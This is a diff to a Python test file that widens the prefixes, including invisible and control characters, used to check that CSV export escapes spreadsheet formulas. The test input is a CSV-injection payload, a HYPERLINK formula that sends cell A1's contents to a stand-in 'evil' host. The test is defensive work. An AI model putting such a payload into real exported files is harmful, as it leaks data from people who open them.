@@ -286,7 +286,19 @@ def test_csv_escapes_formulas_after_semicolons() -> None:
 
 @pytest.mark.parametrize(
     "start",
-    [*FORMULA_STARTS, *CELL_SEPARATORS, " =", "\u3000＝", "\x0b=", "\ufeff=", "\u2003+", "\u200b-", "\x00@", "\u202e="],
+    [
+        *FORMULA_STARTS,
+        *CELL_SEPARATORS,
+        " =",
+        "\u3000＝",
+        "\x0b=",
+        "\ufeff=",
+        "\u2003+",
+        "\u200b-",
+        "\x00@",
+        "\u202e=",
+        '"=',
+    ],
 )
 def test_csv_escapes_formulas(start: str, make_request: Make) -> None:
     evil = f'{start}HYPERLINK("http://evil/?x="&A1,"click")'
